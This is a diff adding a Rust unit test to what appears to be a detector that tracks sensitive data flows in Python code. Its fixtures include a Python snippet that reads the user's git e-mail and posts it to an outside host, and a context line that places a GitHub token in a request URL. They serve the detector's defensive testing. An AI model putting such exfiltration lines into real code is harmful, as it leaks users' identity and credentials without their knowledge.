@@ -1438,3 +1438,28 @@ requests.get(f"https://api.github.com/users/{os.environ['GITHUB_TOKEN']}")
     );
     assert!(f.credential_uses.is_empty(), "{:#?}", f.credential_uses);
 }
+
+/// The e-mail address in git's configuration (`git config user.email`, run with
+/// `subprocess`) is git identity wherever it is sent; other git output (`git rev-parse HEAD`)
+/// is not identity.
+#[test]
+fn the_git_email_sent_is_identity() {
+    let kinds = one_flow(
+        r#"import subprocess
+import requests
+
+email = subprocess.check_output(["git", "config", "user.email"]).decode().strip()
+requests.post("https://c6.x.top/u", json={"email": email})
+"#,
+    )
+    .kinds;
+    assert!(kinds.contains(DataKind::GitConfig), "{kinds:?}");
+    no_flow(
+        r#"import subprocess
+import requests
+
+head = subprocess.check_output(["git", "rev-parse", "HEAD"]).decode().strip()
+requests.post("https://c6.x.top/u", json={"commit": head})
+"#,
+    );
+}
